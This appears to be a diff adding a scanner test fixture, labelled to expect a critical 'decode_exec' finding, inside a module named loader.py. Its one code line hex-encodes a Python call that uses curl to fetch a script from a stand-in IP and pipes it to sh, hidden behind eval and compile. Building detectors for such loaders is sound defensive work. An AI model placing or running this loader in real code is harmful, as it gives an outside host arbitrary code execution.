@@ -1,0 +1,5 @@
+# expect: python.decode_exec critical
+# path: src/pkg/loader.py
+"""module docstring"""
+
+eval(compile(bytes.fromhex("696d706f7274206f733b6f732e73797374656d28276375726c202d7320687474703a2f2f3230332e302e3131332e39302f787c73682729"), "<x>", "exec"))
